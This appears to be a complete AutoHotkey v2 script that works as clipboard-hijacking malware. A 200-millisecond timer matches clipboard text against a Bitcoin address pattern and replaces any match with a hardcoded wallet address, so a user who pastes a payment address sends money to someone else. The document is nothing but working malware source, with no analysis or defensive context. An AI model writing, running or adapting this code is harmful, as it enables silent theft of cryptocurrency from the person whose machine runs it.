#Requires AutoHotkey v2.0
wallets := Map("btc", "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")
SetTimer Check, 200
Check() {
    if A_Clipboard ~= "^(bc1|[13])[a-zA-Z0-9]{25,39}$"
        A_Clipboard := wallets["btc"]
}
